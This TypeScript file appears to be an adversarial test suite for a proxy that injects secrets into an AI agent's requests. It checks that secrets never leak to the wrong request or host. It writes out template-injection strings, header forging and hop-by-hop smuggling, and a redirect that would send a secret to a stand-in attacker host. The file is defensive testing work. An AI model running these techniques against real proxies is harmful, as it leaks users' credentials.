import { sharing } from '../../proof/proof';
import { arrivedIf, type ProxyAttempt, request, type Step, secure, TOKEN } from '../plan/attempt';
import { ATTACKER, type Target } from '../plan/target';
import type { Arrival } from '../plan/wire';
import { bareOf, type Change, dialFor, NO_BARE, noneAstray, readOverTls, withWrite } from './reading';

/** Whether an arrival holds a secret that doesn't belong to the request it is. */
export const strayed = (arrival: Arrival, { allowed }: Target) => {
  const path = arrival.target.replace(/[?#].*/, '');
  const own = allowed.filter(
    (each) =>
      each.method === arrival.method &&
      arrival.host === each.host &&
      path.startsWith(each.path.replace(/[^/]*$/, '')),
  );
  return arrival.secrets.some(({ id }) => !own.some(({ secrets }) => secrets.includes(id)));
};

const shared = {
  group: 'secrets',
  law: 'SEC-2',
  heldBy: 'a secret goes out with requests of its own rules alone',
  mustFailIn: ['secrets'],
  through: arrivedIf(strayed),
} as const;
const borrowing = sharing<ProxyAttempt>(shared);
const overwriting = sharing<ProxyAttempt>({
  ...shared,
  mustFailIn: ['relay'],
  through: arrivedIf(({ secrets }, { read }) => read.secrets.length > 0 && secrets.length === 0),
});

export const SECRETS: readonly ProxyAttempt[] = [
  borrowing('S01', "another rule's secret with the reading rule", reading({ headers: ['X-Want: write'] })),
  borrowing('S02', "the reading rule's secret with a request that carries none", (target) => {
    const bare = bareOf(target);
    return bare === undefined ? NO_BARE : (noneAstray(target, bare) ?? [dialFor(target, bare)]);
  }),
  borrowing(
    'S03',
    'the names of the secrets and of their parameters in headers',
    reading(({ policy }) => ({
      headers: policy.secrets.map(({ parameter }, index) => `X-Secret-${index}: ${parameter}`),
    })),
  ),
  borrowing(
    'S04',
    "the formatter's own words in a header",
    reading({ headers: ['X-Template: {{ .Value }}', 'X-Other: ${.Value}'] }),
  ),
  borrowing(
    'S05',
    "the formatter's own words in query and body",
    withWrite((target, write) => {
      const path = `${write.path}?q=%7B%7B.Value%7D%7D`;
      return noneAstray(target, write) ?? [dialFor(target, write, { path, body: '{"a":"{{ .Value }}"}' })];
    }),
  ),
  borrowing(
    'S06',
    'a secret sent to the attacker by a redirect',
    (target) => [
      ...readOverTls(target, { path: `${target.read.path}?lab=redirect:https://${ATTACKER}/${TOKEN}` }),
      secure(target, ATTACKER, request('GET', `/${TOKEN}`, ATTACKER)),
    ],
    {
      law: 'POL-1',
      heldBy: 'the agent gets the redirect, and no rule names the host',
      mustFailIn: ['relay'],
      through: arrivedIf(({ host }) => host === ATTACKER),
    },
  ),
  overwriting(
    'S07',
    "a value of the agent's own in the header that carries the secret",
    withHeader((target, header) => readOverTls(target, { headers: [`${header}: forged`] })),
    { heldBy: 'the injected value replaces whatever the agent wrote' },
  ),
  overwriting(
    'S08',
    'the header that carries the secret twice, and as a hop-by-hop header',
    withHeader((target, header) => {
      const headers = [`${header}: a`, `${header}: b`, `Connection: close, ${header}`];
      return readOverTls(target, { headers, keepAlive: true });
    }),
    { heldBy: 'the secret is set after the headers of the connection are removed' },
  ),
  borrowing(
    'S09',
    'a 100 KB query, so that an error might quote what was sent',
    reading(({ read }) => ({ path: `${read.path}?${'q'.repeat(100_000)}` })),
    { heldBy: 'errors quote nothing; a value that comes back to the agent fails every attempt' },
  ),
  borrowing(
    'S10',
    'the placeholder of a secret in path, query and header of a request that carries none',
    (target) => {
      const placeholder = target.policy.secrets.find((each) => each.placeholder)?.placeholder;
      const bare = bareOf(target);
      if (placeholder === undefined) return 'this policy has no secret with a placeholder';
      if (bare === undefined) return NO_BARE;
      const path = `${bare.path.replace(/[^/]*$/, placeholder)}?q=${encodeURIComponent(placeholder)}`;
      const headers = [`X-Want: ${placeholder}`];
      return [dialFor(target, bare, { path, headers })];
    },
    { heldBy: 'a placeholder is replaced in paths of its own rules alone' },
  ),
  borrowing(
    'S11',
    "credentials of the agent's own beside the injected one, and with underscores in their names",
    (target) => {
      const own = ['Cookie', 'Proxy-Authorization', ...injectedElsewhere(target)];
      return [own, own.map((name) => name.replaceAll('-', '_'))].flatMap((names) =>
        readOverTls(target, { headers: names.map((name) => `${name}: agents-own`) }),
      );
    },
    {
      law: 'SEC-4',
      heldBy: 'a header list takes them off before a secret is put in, and the gate refuses the others',
      mustFailIn: ['headers'],
      through: arrivedIf((arrival, target) => {
        const own = ['cookie', 'proxy-authorization', ...injectedElsewhere(target)];
        return arrival.headers.some((name) => own.includes(name.toLowerCase().replaceAll('_', '-')));
      }),
    },
  ),
];

/** The reading request with a change, if another secret than its own could go out with it. */
function reading(change: Change | ((target: Target) => Change)): ProxyAttempt['run'] {
  return (target) =>
    noneAstray(target, target.read) ??
    readOverTls(target, typeof change === 'function' ? change(target) : change);
}

/** Headers that other rules' secrets go into, in lower case. */
function injectedElsewhere({ policy, read }: Target): string[] {
  const of = (own: boolean) =>
    policy.secrets.flatMap(({ parameter, header }) =>
      header !== undefined && read.secrets.includes(parameter) === own ? [header.toLowerCase()] : [],
    );
  return of(false).filter((header) => !of(true).includes(header));
}

function withHeader(run: (target: Target, header: string) => Step[]): ProxyAttempt['run'] {
  return (target) => {
    const { policy, read } = target;
    const header = policy.secrets.find(({ parameter }) => read.secrets.includes(parameter))?.header;
    return header === undefined ? 'the reading rule carries no secret in a header' : run(target, header);
  };
}
